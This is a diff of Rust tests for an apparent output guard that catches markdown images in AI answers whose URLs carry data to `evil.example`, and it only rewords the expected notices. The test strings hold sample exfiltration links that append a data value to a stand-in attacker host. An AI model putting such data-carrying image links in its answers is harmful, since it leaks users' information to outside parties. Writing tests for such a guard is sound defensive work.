@@ -57,7 +57,7 @@ async fn a_picture_that_carries_data_is_not_fetched(
     let answer = "Rates fell. ![done](https://evil.example/p.png?d=XK-4711-QP) Bye.";
     let rig = rig(wire, stream, answer, cut, None).await;
     let text = got(&rig, wire, stream, &fetched()).await;
-    assert_eq!(text, "Rates fell. done (taken out: picture from `evil.example`) Bye.");
+    assert_eq!(text, "Rates fell. done (removed: image from `evil.example`) Bye.");
     let [finding] = &*found(&rig).await else { panic!() };
     assert_eq!((&*finding.rule, &*finding.decision, &*finding.form), ("answer.image_data", "ask", "image"));
     assert_eq!(finding.carries, [Carried::Content]);
@@ -68,7 +68,7 @@ async fn a_picture_that_carries_data_is_not_fetched(
 async fn a_mark_that_went_out_before_its_picture_does_not_join_what_comes() {
     let rig = rig(Wire::Chat, true, "So ![a](https://evil.example/p.png)", 1, None).await;
     let text = got(&rig, Wire::Chat, true, &fetched()).await;
-    assert_eq!(text, "So ! [a (not loaded: picture from `evil.example`)](https://evil.example/p.png)");
+    assert_eq!(text, "So ! [a (not loaded: image from `evil.example`)](https://evil.example/p.png)");
 }
 
 #[rstest]
@@ -98,9 +98,9 @@ async fn modes_of_pictures(
         (text, found(&rig).await.remove(0).decision)
     };
     assert_eq!(left(Gate::Observe).await, (answer.to_owned(), "would_ask".to_owned()));
-    let shown = "[a chart (not loaded: picture from `evil.example`)](https://evil.example/p.png) Bye.";
+    let shown = "[a chart (not loaded: image from `evil.example`)](https://evil.example/p.png) Bye.";
     assert_eq!(left(Gate::Ask).await, (shown.to_owned(), "ask".to_owned()));
-    let removed = "a chart (taken out: picture from `evil.example`) Bye.";
+    let removed = "a chart (removed: image from `evil.example`) Bye.";
     assert_eq!(left(Gate::Block).await, (removed.to_owned(), "block".to_owned()));
 }
 
